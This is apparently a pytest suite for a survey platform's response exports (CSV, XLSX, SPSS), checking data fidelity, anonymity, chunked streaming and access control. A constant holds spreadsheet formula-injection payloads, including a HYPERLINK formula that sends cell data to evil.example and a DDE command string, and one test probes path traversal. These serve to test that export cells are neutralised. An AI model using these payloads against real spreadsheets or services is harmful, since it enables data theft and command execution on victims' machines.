"""Exports of campaign responses: CSV, XLSX and SPSS files read back and compared with
the stored answers; formula neutralisation; anonymity; deleted and partial responses;
versions; streaming in chunks; the pages, background files and access control."""

from __future__ import annotations

import csv
import io
import os
import re
import time
from datetime import timedelta

import openpyxl
import pyreadstat
import pytest
from sqlalchemy import event, select

from core.database import utcnow
from core.extensions import db
from core.tasks import TaskRun, TaskStatus, run_periodic_now
from org.models import AuditEvent
from surveys import exports, services
from surveys.models import Answer, Invitation
from tests.surveys.definition_factory import OPTIONS, question

HOSTILE_TEXTS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                 "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1")


def every_type_document(key="every-type") -> dict:
    """One page with a question of every answerable type, texts in both languages."""

    def bilingual(q, en, zh):
        q["text"] = {"en": en, "zh_CN": zh}
        return q

    return {
        "format": "orbit.questionnaire/1",
        "key": key,
        "title": {"en": "Every type", "zh_CN": "所有题型"},
        "default_locale": "zh_CN",
        "pages": [{"key": "all", "questions": [
            question("intro", "text_block"),
            bilingual(question("csat", "csat", required=True), "Satisfied?", "您满意吗？"),
            bilingual(question("nps", "nps"), "Recommend us?", "您会推荐我们吗？"),
            bilingual(question("ces", "ces"), "Easy?", "容易吗？"),
            bilingual(question("agree", "likert", scale={
                "points": 5, "not_applicable": True,
                "labels": {"1": {"en": "Disagree", "zh_CN": "不同意"},
                           "5": {"en": "Agree", "zh_CN": "同意"}}}), "Fair price", "价格合理"),
            bilingual(question("grid", "matrix", scale={"points": 4, "not_applicable": True}),
                      "The agent…", "客服人员…"),
            bilingual(question("channel", "single_choice"), "Channel", "渠道"),
            bilingual(question("office", "dropdown"), "Office", "办公室"),
            bilingual(question("features", "multiple_choice", min_selections=None,
                               max_selections=None), "Features used", "使用的功能"),
            bilingual(question("priorities", "ranking"), "Rank these", "请排序"),
            bilingual(question("comment", "long_text"), "Comments", "意见"),
            bilingual(question("nickname", "short_text", max_length=200), "Nickname", "昵称"),
            bilingual(question("visits", "number", min=-10, max=100, integer=False),
                      "Visits", "访问次数"),
            bilingual(question("visit_date", "date", min=None, max=None), "Date", "日期"),
        ]}],
    }


FULL_ANSWERS = {
    "csat": 5, "nps": 0, "ces": 7, "agree": "na",
    "grid": {"listens": 4, "explains": "na"},
    "channel": "email", "office": "visit", "features": ["phone", "chat"],
    "priorities": ["chat", "phone", "email"],
    "comment": "服务很好，谢谢！\n第二行 <b>&</b>", "nickname": "小王",
    "visits": -3, "visit_date": "2024-02-29",
}
SECOND_ANSWERS = {"csat": 2, "agree": 3, "grid": {"listens": 1}, "features": ["visit"],
                  "visits": 2.5, "comment": "-1+2"}


@pytest.fixture(autouse=True)
def _exports_folder(app, tmp_path, monkeypatch):
    folder = tmp_path / "exports"
    monkeypatch.setitem(app.config, "EXPORTS_DIR", str(folder))
    return folder


@pytest.fixture
def admin(factory):
    return factory.admin()


@pytest.fixture
def campaign(factory, admin):
    questionnaire = factory.questionnaire(every_type_document(), actor=admin)
    return factory.campaign(questionnaire, actor=admin, name="Helpdesk survey")


def respond(campaign, answers, *, locale="zh_CN", fields=None, seconds=30.0):
    response, _token = services.submit_new_response(
        campaign, "all", answers, locale=locale, seconds=seconds
    )
    if fields is not None:
        response.fields = fields
    db.session.flush()
    return response


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def csv_of(campaign, layout="wide", **options) -> list[dict]:
    return read_csv(b"".join(exports.stream_csv(campaign, layout, **options)))


def _spreadsheet_text(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def expected_wide(campaign, response) -> dict:
    """What a wide row must hold for ``response``, computed independently from the
    stored answers (as CSV text)."""
    definition = services.parsed_version(response.version)
    answers = services.load_answers(response)
    out = {}
    for q in definition.questions:
        if not q.answerable:
            continue
        value = answers.get(q.key)
        if q.type == "matrix":
            for item in q.items:
                point = (value or {}).get(item.key)
                out[f"{q.key}_{item.key}"] = "" if point is None else str(point)
        elif q.type == "multiple_choice":
            for option in q.options:
                out[f"{q.key}_{option.value}"] = (
                    "" if value is None else "1" if option.value in value else "0"
                )
        elif q.type == "ranking":
            for option in q.options:
                out[f"{q.key}_{option.value}"] = (
                    "" if value is None else str(value.index(option.value) + 1)
                )
        elif value is None:
            out[q.key] = ""
        elif isinstance(value, str):
            out[q.key] = _spreadsheet_text(value)
        else:
            out[q.key] = str(value)
    return out


# ----------------------------------------------------------------- CSV


def test_wide_csv_holds_every_answer_of_every_type_as_stored(campaign):
    first = respond(campaign, FULL_ANSWERS, fields={"ticket": "T-1", "地区": "华东"})
    second = respond(campaign, SECOND_ANSWERS, locale="en", seconds=12.5)
    rows = csv_of(campaign)
    assert [r["response_id"] for r in rows] == [str(first.id), str(second.id)]
    for row, response in zip(rows, (first, second), strict=True):
        expected = expected_wide(campaign, response)
        assert {k: row[k] for k in expected} == expected
        assert row["status"] == "completed" and row["version"] == "1"
        assert row["submitted_at"] == response.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ")
        assert row["started_at"].endswith("Z")
    assert rows[0]["locale"] == "zh_CN" and rows[1]["locale"] == "en"
    assert rows[0]["duration_seconds"] == "30" and rows[1]["duration_seconds"] == "12.5"
    assert rows[0]["field_ticket"] == "T-1" and rows[0]["field_地区"] == "华东"
    assert rows[1]["field_ticket"] == ""
    # Spot checks a reader would make by eye.
    assert rows[0]["agree"] == "na" and rows[0]["grid_explains"] == "na"
    assert rows[0]["channel"] == "email" and rows[0]["features_email"] == "0"
    assert rows[0]["priorities_chat"] == "1" and rows[0]["comment"].startswith("服务很好")
    assert rows[1]["visits"] == "2.5" and rows[1]["features_phone"] == "0"
    assert rows[0]["visits"] == "-3"  # a number stays a number, minus sign and all


def test_column_order_follows_the_questionnaire_and_skips_text_blocks(campaign):
    names = [c.name for c in exports.export_columns(campaign)]
    assert names[:7] == ["response_id", "status", "version", "locale", "started_at",
                         "submitted_at", "duration_seconds"]
    assert "intro" not in names
    assert names[7:] == [
        "csat", "nps", "ces", "agree", "grid_listens", "grid_explains", "channel", "office",
        *[f"features_{o['value']}" for o in OPTIONS],
        *[f"priorities_{o['value']}" for o in OPTIONS[:3]],
        "comment", "nickname", "visits", "visit_date",
    ]


def test_long_csv_has_one_row_per_stored_answer_with_both_texts(campaign):
    first = respond(campaign, FULL_ANSWERS)
    second = respond(campaign, SECOND_ANSWERS)
    rows = csv_of(campaign, "long")
    stored = db.session.execute(
        select(Answer.response_id, Answer.question_key, Answer.item_key, Answer.value_num,
               Answer.value_text)
        .where(Answer.response_id.in_([first.id, second.id]))
    ).all()
    assert len(rows) == len(stored)

    def as_csv(num):
        if num is None:
            return ""
        return str(int(num)) if float(num).is_integer() else str(num)

    assert sorted(
        (int(r["response_id"]), r["question_key"], r["item_key"], r["value_num"], r["value_text"])
        for r in rows
    ) == sorted(
        (rid, key, item, as_csv(num), _spreadsheet_text(text or ""))
        for rid, key, item, num, text in stored
    )
    csat = next(r for r in rows if r["question_key"] == "csat")
    assert (csat["question_en"], csat["question_zh_CN"]) == ("Satisfied?", "您满意吗？")


def test_csv_starts_with_a_bom_and_keeps_chinese_intact(campaign):
    respond(campaign, FULL_ANSWERS, fields={"地区": "华东"})
    data = b"".join(exports.stream_csv(campaign, "wide"))
    assert data[:3] == b"\xef\xbb\xbf"
    text = data[3:].decode("utf-8")
    assert "服务很好，谢谢！" in text and "小王" in text and "field_地区" in text


def test_hostile_text_and_field_values_cannot_run_as_formulas(campaign):
    responses = [
        respond(campaign, {"csat": 3, "comment": text, "nickname": text},
                fields={"ticket": text})
        for text in HOSTILE_TEXTS
    ]
    rows = csv_of(campaign)
    for row, text in zip(rows, HOSTILE_TEXTS, strict=True):
        for name in ("comment", "nickname", "field_ticket"):
            assert row[name] == "'" + text, name
            assert row[name][0] not in "=+-@\t\r"
    long_rows = csv_of(campaign, "long")
    assert all(r["value_text"][:1] not in ("=", "+", "-", "@", "\t", "\r") for r in long_rows)
    assert len(responses) == len(rows)


def test_numbers_are_not_neutralised_but_text_that_looks_like_one_is(campaign):
    respond(campaign, {"csat": 4, "visits": -3, "comment": "-3"})
    [row] = csv_of(campaign)
    assert row["visits"] == "-3"
    assert row["comment"] == "'-3"


# ----------------------------------------------------------------- XLSX


def test_xlsx_round_trip_with_typed_cells_and_a_codebook(campaign, tmp_path):
    first = respond(campaign, FULL_ANSWERS, fields={"ticket": "=1+1"})
    second = respond(campaign, SECOND_ANSWERS, locale="en")
    path = tmp_path / "out.xlsx"
    assert exports.write_xlsx(campaign, "wide", path) == 2
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Responses", "Codebook"]
    sheet = workbook["Responses"]
    header, *data = list(sheet.iter_rows(values_only=True))
    assert len(data) == 2
    for values, response in zip(data, (first, second), strict=True):
        row = dict(zip(header, values, strict=True))
        assert row["response_id"] == response.id  # a number, not text
        for name, text in expected_wide(campaign, response).items():
            cell = row[name]
            assert ("" if cell is None else str(cell)) == text, name
    row = dict(zip(header, data[0], strict=True))
    assert isinstance(row["csat"], int) and isinstance(row["visits"], int)
    assert row["visits"] == -3 and row["field_ticket"] == "'=1+1"
    assert row["visit_date"] == "2024-02-29"  # ISO text
    assert dict(zip(header, data[1], strict=True))["visits"] == 2.5
    # No cell anywhere is a formula.
    assert all(
        cell.data_type != "f" for ws in workbook for line in ws.iter_rows() for cell in line
    )
    codebook = list(workbook["Codebook"].iter_rows(values_only=True))
    assert codebook[0][:6] == ("variable", "spss_variable", "question_key", "item_or_option",
                               "question_en", "question_zh_CN")
    by_variable = {r[0]: r for r in codebook[1:]}
    assert by_variable["csat"][4:6] == ("Satisfied?", "您满意吗？")
    assert by_variable["grid_listens"][3] == "listens"
    assert "5 = 非常满意" in by_variable["csat"][11]
    assert "2 = Email" in by_variable["channel"][10]
    assert set(by_variable) == {c.name for c in exports.export_columns(campaign)}


def test_xlsx_long_layout(campaign, tmp_path):
    respond(campaign, FULL_ANSWERS)
    path = tmp_path / "long.xlsx"
    rows = exports.write_xlsx(campaign, "long", path)
    sheet = openpyxl.load_workbook(path)["Responses"]
    header, *data = list(sheet.iter_rows(values_only=True))
    assert header == exports.LONG_HEADER and len(data) == rows
    assert rows == db.session.scalar(select(db.func.count()).select_from(Answer))
    nps = next(r for r in data if r[1] == "nps")
    assert nps[3] == 0 and isinstance(nps[3], int)


# ----------------------------------------------------------------- SPSS


def test_sav_round_trip_with_codes_and_labels(campaign, tmp_path):
    first = respond(campaign, FULL_ANSWERS, fields={"地区": "华东"})
    second = respond(campaign, SECOND_ANSWERS, locale="en")
    path = tmp_path / "out.sav"
    assert exports.write_sav(campaign, path) == 2
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    columns = exports.export_columns(campaign)
    assert meta.column_names == [c.spss_name for c in columns]
    assert meta.file_encoding == "UTF-8"
    a, b = (frame.iloc[0], frame.iloc[1])
    assert (a["response_id"], b["response_id"]) == (first.id, second.id)
    assert a["csat"] == 5 and a["nps"] == 0 and a["ces"] == 7
    assert a["agree"] == exports.NA_CODE and b["agree"] == 3
    assert a["grid_listens"] == 4 and a["grid_explains"] == exports.NA_CODE
    assert a["channel"] == 2 and a["office"] == 4  # email, visit: codes in option order
    assert (a["features_phone"], a["features_email"], a["features_chat"]) == (1, 0, 1)
    assert (a["priorities_chat"], a["priorities_phone"], a["priorities_email"]) == (1, 2, 3)
    assert a["comment"] == FULL_ANSWERS["comment"] and a["nickname"] == "小王"
    assert a["visits"] == -3 and b["visits"] == 2.5
    assert str(a["visit_date"]) == "2024-02-29"
    assert a["field_地区"] == "华东"
    assert a["status"] == "completed" and a["locale"] == "zh_CN"
    # Not answered: missing, not 0.
    assert b["channel"] != b["channel"] and b["priorities_chat"] != b["priorities_chat"]
    # Labels: question texts in the questionnaire's default language (Chinese).
    labels = meta.column_names_to_labels
    assert labels["csat"] == "您满意吗？"
    assert labels["features_chat"] == "使用的功能: 在线客服"
    values = meta.variable_value_labels
    assert values["csat"] == {1: "非常不满意", 5: "非常满意"}
    assert values["channel"] == {1: "电话", 2: "邮件", 3: "在线客服", 4: "上门"}
    assert values["agree"][exports.NA_CODE] and values["agree"][5] == "同意"
    assert meta.missing_ranges["agree"] == [{"lo": -1.0, "hi": -1.0}]
    # Read without user-missing values, "not applicable" is simply missing.
    plain, _meta = pyreadstat.read_sav(str(path))
    assert plain.iloc[0]["agree"] != plain.iloc[0]["agree"]


def test_spss_names_are_valid_and_unique_ignoring_case():
    names = exports.spss_names(
        ["csat-1", "CSAT_1", "1st", "with", "地区", "a" * 70, "a" * 70, "field_x.y", "_x"]
    )
    assert names[:5] == ["csat_1", "CSAT_1_2", "v1st", "with_", "地区"]
    assert len({n.casefold() for n in names}) == len(names)
    for name in names:
        assert re.fullmatch(r"[^\W\d_]\w*", name) and len(name.encode()) <= 64


def test_sav_is_wide_only_and_refuses_long(campaign):
    with pytest.raises(exports.ServiceError):
        exports.check_download(campaign, "sav", "long", include_partial=False,
                               include_deleted=False)


# ----------------------------------------------------------------- which responses


def test_deleted_responses_are_left_out_unless_asked_and_then_marked(campaign, admin):
    kept = respond(campaign, {"csat": 5})
    gone = respond(campaign, {"csat": 1, "comment": "delete me"})
    gone.deleted_at = utcnow()
    gone.deleted_by_id = admin.id
    db.session.flush()
    rows = csv_of(campaign)
    assert [r["response_id"] for r in rows] == [str(kept.id)]
    assert "deleted" not in rows[0]
    assert "delete me" not in b"".join(exports.stream_csv(campaign, "long")).decode("utf-8")
    rows = csv_of(campaign, include_deleted=True)
    assert {r["response_id"]: r["deleted"] for r in rows} == {str(kept.id): "0", str(gone.id): "1"}


def test_partial_responses_only_when_asked(campaign):
    done = respond(campaign, {"csat": 5})
    partial, _token = services.start_response(campaign, locale="en")
    services.save_page(partial, "all", {"csat": 2}, next_page=None)
    assert [r["response_id"] for r in csv_of(campaign)] == [str(done.id)]
    rows = csv_of(campaign, include_partial=True)
    assert {r["response_id"]: (r["status"], r["submitted_at"], r["csat"]) for r in rows} == {
        str(done.id): ("completed", done.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ"), "5"),
        str(partial.id): ("in_progress", "", "2"),
    }


def test_other_campaigns_responses_are_not_exported(campaign, factory, admin):
    mine = respond(campaign, {"csat": 5})
    other = factory.campaign(campaign.version.questionnaire, actor=admin, name="Other")
    services.submit_new_response(other, "all", {"csat": 1}, locale="en")
    assert [r["response_id"] for r in csv_of(campaign)] == [str(mine.id)]


def test_questions_of_every_version_answered_in_the_campaign(factory, admin):
    v1 = every_type_document("versions")
    v1["pages"][0]["questions"] = [
        question("csat", "csat"),
        question("old_only", "short_text"),
        question("reshaped", "short_text"),
    ]
    questionnaire = factory.questionnaire(v1, actor=admin)
    campaign = factory.campaign(questionnaire, actor=admin)
    old = respond(campaign, {"csat": 4, "old_only": "from v1", "reshaped": "text in v1"})
    v2 = every_type_document("versions")
    v2["pages"][0]["questions"] = [
        question("new_first", "nps"),
        question("csat", "csat"),
        question("reshaped", "multiple_choice", min_selections=None, max_selections=None),
    ]
    services.save_draft(admin, questionnaire, v2, validate=True)
    version2 = services.publish(admin, questionnaire)
    campaign.version_id = version2.id
    db.session.flush()
    db.session.expire(campaign)
    new = respond(campaign, {"new_first": 10, "csat": 2, "reshaped": ["chat"]})
    names = [c.name for c in exports.export_columns(campaign)]
    assert names[7:] == [
        "new_first", "csat", *[f"reshaped_{o['value']}" for o in OPTIONS],
        "old_only", "reshaped_v1",
    ]
    rows = {r["response_id"]: r for r in csv_of(campaign)}
    assert (rows[str(old.id)]["version"], rows[str(new.id)]["version"]) == ("1", "2")
    assert rows[str(old.id)]["csat"] == "4" and rows[str(new.id)]["csat"] == "2"
    assert rows[str(old.id)]["old_only"] == "from v1" and rows[str(new.id)]["old_only"] == ""
    assert rows[str(old.id)]["reshaped_v1"] == "text in v1"
    assert rows[str(old.id)]["reshaped_chat"] == ""
    assert rows[str(new.id)]["reshaped_chat"] == "1" and rows[str(new.id)]["reshaped_phone"] == "0"


# ----------------------------------------------------------------- personal and anonymous


def _personal(campaign, *, anonymous):
    campaign.audience = "personal"
    campaign.anonymous = anonymous
    campaign.min_group_size = 3
    db.session.flush()
    invitation = Invitation(campaign_id=campaign.id, email="li.wei@example.com", name="李伟",
                            fields={"region": "North"})
    db.session.add(invitation)
    db.session.flush()
    return invitation


def test_personal_campaign_exports_name_and_email_of_the_invitee(campaign):
    invitation = _personal(campaign, anonymous=False)
    response = respond(campaign, {"csat": 5}, fields={"region": "North"})
    response.invitation_id = invitation.id
    db.session.flush()
    [row] = csv_of(campaign)
    assert (row["invitee_email"], row["invitee_name"]) == ("li.wei@example.com", "李伟")


def test_anonymous_campaign_exports_no_timestamps_emails_or_ids(campaign):
    invitation = _personal(campaign, anonymous=True)
    responses = [
        respond(campaign, {"csat": 3 + n % 2}, fields={"region": "North" if n < 4 else "South",
                                                        "ticket": f"T-{n}"})
        for n in range(5)
    ]
    # Even a response wrongly tied to its invitation must not reveal the person.
    responses[0].invitation_id = invitation.id
    db.session.flush()
    rows = csv_of(campaign, include_deleted=True)
    names = set(rows[0])
    assert not names & {"started_at", "submitted_at", "duration_seconds", "invitee_email",
                        "invitee_name"}
    text = b"".join(exports.stream_csv(campaign, "wide")).decode("utf-8")
    assert "li.wei@example.com" not in text and "李伟" not in text
    assert not re.search(r"\d{4}-\d\d-\d\dT\d\d:\d\d", text)
    # Pseudonyms, not ids; the same in the long layout; not in the order of the ids.
    ids = {r["response_id"] for r in rows}
    assert not ids & {str(r.id) for r in responses}
    assert ids == {exports.pseudonym(campaign.id, r.id) for r in responses}
    assert {r["response_id"] for r in csv_of(campaign, "long")} == ids
    assert [r["response_id"] for r in rows] == sorted(ids)
    # A field value shared by fewer than min_group_size (3) responses is left blank.
    assert sorted(r["field_region"] for r in rows) == ["", "North", "North", "North", "North"]
    assert {r["field_ticket"] for r in rows} == {""}


def test_anonymous_sav_and_xlsx_have_no_timestamps(campaign, tmp_path):
    _personal(campaign, anonymous=True)
    respond(campaign, FULL_ANSWERS)
    exports.write_sav(campaign, tmp_path / "a.sav")
    frame, meta = pyreadstat.read_sav(str(tmp_path / "a.sav"))
    assert "submitted_at" not in meta.column_names and "started_at" not in meta.column_names
    assert frame.iloc[0]["response_id"] != "1"
    exports.write_xlsx(campaign, "wide", tmp_path / "a.xlsx")
    header = next(openpyxl.load_workbook(tmp_path / "a.xlsx")["Responses"].iter_rows(
        values_only=True))
    assert "submitted_at" not in header and "duration_seconds" not in header


# ----------------------------------------------------------------- streaming and chunking


class _Statements:
    def __init__(self):
        self.sql: list[str] = []

    def __enter__(self):
        event.listen(db.engine, "before_cursor_execute", self._seen)
        return self

    def __exit__(self, *exc):
        event.remove(db.engine, "before_cursor_execute", self._seen)

    def _seen(self, conn, cursor, statement, *args):
        self.sql.append(statement)

    def reading(self, table: str) -> int:
        return sum(1 for s in self.sql if re.search(rf"\bFROM {table}\b", s))


def _bulk_responses(campaign, n):
    for i in range(n):
        respond(campaign, {"csat": 1 + i % 5, "comment": f"answer {i}"}, seconds=None)


def test_csv_reads_responses_in_chunks_with_one_answer_query_per_chunk(campaign, monkeypatch):
    _bulk_responses(campaign, 23)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 5)
    with _Statements() as statements:
        rows = csv_of(campaign)
    assert len(rows) == 23
    assert statements.reading("answers") == 5  # ceil(23 / 5) chunks, one query each
    assert len(statements.sql) <= 3 + 3 * 5


def test_the_number_of_queries_does_not_grow_with_the_responses(campaign):
    _bulk_responses(campaign, 3)
    with _Statements() as small:
        assert len(csv_of(campaign)) == 3
    _bulk_responses(campaign, 40)
    with _Statements() as large:
        assert len(csv_of(campaign)) == 43
    assert len(large.sql) == len(small.sql)


def test_csv_is_a_generator_that_reads_rows_only_as_it_is_consumed(campaign, monkeypatch):
    _bulk_responses(campaign, 12)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 5)
    stream = exports.stream_csv(campaign, "wide")
    with _Statements() as statements:
        header = next(stream)
        assert header.startswith(b"\xef\xbb\xbfresponse_id,")
        assert statements.reading("answers") == 0
        first = next(stream)
        assert first.count(b"\r\n") == 5 and statements.reading("answers") == 1
        rest = b"".join(stream)
    assert rest.count(b"\r\n") == 7


# ----------------------------------------------------------------- the pages


def test_only_admins_see_the_exports_page_and_unknown_ids_are_404(
    client, factory, login_as, campaign
):
    url = f"/campaigns/{campaign.id}/exports"
    assert client.get(url).status_code == 302  # to the login page
    login_as(factory.manager())
    assert client.get(url).status_code == 403
    assert client.get(f"{url}/download?format=csv&layout=wide").status_code == 403
    client.post("/logout")
    login_as(factory.admin())
    page = client.get(url)
    assert page.status_code == 200
    assert client.get(f"/campaigns/{campaign.id + 999}/exports").status_code == 404
    assert client.get(
        f"/campaigns/{campaign.id + 999}/exports/download?format=csv&layout=wide"
    ).status_code == 404


def test_exports_page_offers_formats_layouts_and_options(client, login_as, admin, campaign):
    respond(campaign, {"csat": 5})
    login_as(admin)
    html = client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)
    for text in ('value="csv"', 'value="xlsx"', 'value="sav"', 'value="wide"', 'value="long"',
                 'name="partial"', 'name="deleted"', "1 completed response",
                 'aria-current="page"'):
        assert text in html
    download_form = re.search(r'<form method="get".*?</form>', html, re.S).group(0)
    assert "csrf_token" not in download_form  # a token in a GET form would land in URLs
    assert "/exports/download" in download_form


def test_csv_download_streams_with_a_dated_file_name(client, login_as, admin, factory):
    questionnaire = factory.questionnaire(every_type_document(), actor=admin)
    campaign = factory.campaign(questionnaire, actor=admin, name="客户满意度 2024 / Q1")
    respond(campaign, FULL_ANSWERS)
    login_as(admin)
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=csv&layout=wide",
                   buffered=False)
    assert r.status_code == 200 and r.is_streamed
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.headers["Cache-Control"] == "no-store"
    day = utcnow().strftime("%Y%m%d")
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"")
    assert f"filename*=UTF-8''%E5%AE%A2%E6%88%B7%E6%BB%A1%E6%84%8F%E5%BA%A6-2024-q1-{day}.csv" in (
        disposition
    )
    disposition.encode("latin-1")  # a valid header value
    rows = read_csv(b"".join(r.response))
    assert rows[0]["nickname"] == "小王"
    event_ = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "campaign.export"))
    assert event_.object_id == campaign.id and event_.details["format"] == "csv"


def test_an_ascii_name_gets_a_plain_file_name():
    assert exports.content_disposition("helpdesk-20240501.csv") == (
        'attachment; filename="helpdesk-20240501.csv"'
    )


def test_xlsx_and_sav_downloads_leave_no_file_behind(
    client, login_as, admin, campaign, _exports_folder, tmp_path
):
    respond(campaign, FULL_ANSWERS)
    login_as(admin)
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=xlsx&layout=long")
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    assert r.headers["Content-Disposition"].endswith('.xlsx"')
    (tmp_path / "d.xlsx").write_bytes(r.data)
    assert openpyxl.load_workbook(tmp_path / "d.xlsx").sheetnames == ["Responses", "Codebook"]
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=sav&layout=wide")
    assert r.status_code == 200 and int(r.headers["Content-Length"]) == len(r.data)
    (tmp_path / "d.sav").write_bytes(r.data)
    assert pyreadstat.read_sav(str(tmp_path / "d.sav"))[0].shape[0] == 1
    assert list(_exports_folder.iterdir()) == []


def test_spss_long_is_refused_with_a_message(client, login_as, admin, campaign):
    login_as(admin)
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=sav&layout=long")
    assert r.status_code == 302 and "format=sav" in r.headers["Location"]
    page = client.get(r.headers["Location"]).get_data(as_text=True)
    assert "SPSS files hold the wide layout only" in page
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=pdf&layout=wide")
    assert r.status_code == 302


def test_large_campaigns_prepare_xlsx_in_the_background(
    client, login_as, admin, campaign, monkeypatch, _exports_folder, factory
):
    for n in range(3):
        respond(campaign, {"csat": 1 + n})
    monkeypatch.setattr(exports, "LARGE_EXPORT", 2)
    login_as(admin)
    page = client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)
    assert re.search(r'<input[^>]*disabled[^>]*value="xlsx"|<input[^>]*value="xlsx"[^>]*disabled',
                     page.split('id="prepared"')[0])
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=xlsx&layout=wide")
    assert r.status_code == 302
    assert "prepare the file in the background" in client.get(r.headers["Location"]).get_data(
        as_text=True)
    # CSV still streams.
    assert client.get(
        f"/campaigns/{campaign.id}/exports/download?format=csv&layout=wide"
    ).status_code == 200

    r = client.post(f"/campaigns/{campaign.id}/exports/prepare",
                    data={"bg-format": "xlsx", "bg-layout": "wide"})
    assert r.status_code == 302
    run = db.session.scalar(select(TaskRun).where(TaskRun.name == "surveys.export_file"))
    assert run.status == TaskStatus.SUCCEEDED, run.error
    assert run.campaign_id == campaign.id and run.created_by_id == admin.id
    token = run.result["token"]
    assert len(token) == 32 and run.result["rows"] == 3
    [stored] = list(_exports_folder.iterdir())
    assert stored.name == f"{token}.xlsx"
    page = client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)
    link = f"/campaigns/{campaign.id}/exports/files/{token}"
    assert link in page and "helpdesk-survey-" in page
    r = client.get(link)
    assert r.status_code == 200 and r.headers["Content-Disposition"].startswith("attachment")
    assert len(r.data) == stored.stat().st_size
    # Not through another campaign, nor with a guessed name.
    other = factory.campaign(campaign.version.questionnaire, actor=admin, name="Other")
    assert client.get(f"/campaigns/{other.id}/exports/files/{token}").status_code == 404
    assert client.get(f"/campaigns/{campaign.id}/exports/files/{'A' * 32}").status_code == 404
    assert client.get(f"/campaigns/{campaign.id}/exports/files/..%2F..%2Fx").status_code == 404


def test_prepared_files_are_swept_after_seven_days(
    client, login_as, admin, campaign, _exports_folder
):
    respond(campaign, {"csat": 4})
    login_as(admin)
    client.post(f"/campaigns/{campaign.id}/exports/prepare",
                data={"bg-format": "sav", "bg-layout": "wide", "bg-partial": "y"})
    run = db.session.scalar(select(TaskRun).where(TaskRun.name == "surveys.export_file"))
    assert run.status == TaskStatus.SUCCEEDED, run.error
    [stored] = list(_exports_folder.iterdir())
    link = f"/campaigns/{campaign.id}/exports/files/{run.result['token']}"
    run_periodic_now()
    assert stored.exists()  # young files stay
    old = time.time() - (exports.KEEP_DAYS * 86400 + 60)
    os.utime(stored, (old, old))
    run_periodic_now()
    assert not stored.exists()
    assert client.get(link).status_code == 404
    assert link not in client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)


def test_preparing_needs_a_valid_choice_and_an_admin(client, login_as, factory, admin, campaign):
    login_as(factory.manager())
    assert client.post(f"/campaigns/{campaign.id}/exports/prepare",
                       data={"bg-format": "csv", "bg-layout": "wide"}).status_code == 403
    client.post("/logout")
    login_as(admin)
    r = client.post(f"/campaigns/{campaign.id}/exports/prepare",
                    data={"bg-format": "sav", "bg-layout": "long"})
    assert r.status_code == 302
    assert db.session.scalar(select(TaskRun).where(TaskRun.name == "surveys.export_file")) is None


def test_a_failed_background_export_is_shown(client, login_as, admin, campaign, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "write_export", broken)
    login_as(admin)
    client.post(f"/campaigns/{campaign.id}/exports/prepare",
                data={"bg-format": "csv", "bg-layout": "long"})
    run = db.session.scalar(select(TaskRun).where(TaskRun.name == "surveys.export_file"))
    assert run.status == TaskStatus.FAILED
    page = client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)
    assert "Failed" in page and "disk full" in page


def test_expired_runs_are_not_listed(campaign, admin):
    run = TaskRun(uid="x" * 36, name="surveys.export_file", campaign_id=campaign.id,
                  status=TaskStatus.FAILED, args={"format": "csv", "layout": "wide",
                                                   "filename": "old.csv"},
                  created_at=utcnow() - timedelta(days=exports.KEEP_DAYS + 1))
    db.session.add(run)
    db.session.flush()
    assert exports.prepared_exports(campaign) == []


def test_sav_with_unanswered_dates_and_partial_responses(campaign, tmp_path):
    partial, _token = services.start_response(campaign, locale="en")
    services.save_page(partial, "all", {"csat": 2}, next_page=None)
    path = tmp_path / "sparse.sav"
    assert exports.write_sav(campaign, path, include_partial=True) == 1
    frame, meta = pyreadstat.read_sav(str(path))
    row = frame.iloc[0]
    assert row["csat"] == 2 and row["status"] == "in_progress"
    assert row["visit_date"] is None or row["visit_date"] != row["visit_date"]
    assert row["submitted_at"] != row["submitted_at"]  # NaT: not submitted
    assert meta.original_variable_types["visit_date"].startswith("DATE")
    assert meta.original_variable_types["submitted_at"].startswith("DATETIME")


def test_unexpected_query_arguments_are_ignored(client, login_as, admin, campaign):
    login_as(admin)
    r = client.get(f"/campaigns/{campaign.id}/exports/download?format=pdf&campaign_id=7&x=1")
    assert r.status_code == 302
    assert r.headers["Location"] == f"/campaigns/{campaign.id}/exports?format=pdf"


def test_the_coding_guide_is_one_click_away_for_admins(client, login_as, factory, admin, campaign):
    login_as(factory.manager())
    assert client.get("/campaigns/exports/help").status_code == 403
    client.post("/logout")
    login_as(admin)
    page = client.get(f"/campaigns/{campaign.id}/exports").get_data(as_text=True)
    assert "/campaigns/exports/help" in page
    guide = client.get("/campaigns/exports/help").get_data(as_text=True)
    assert "Formulas in cells are neutralised" in guide and "<table>" in guide
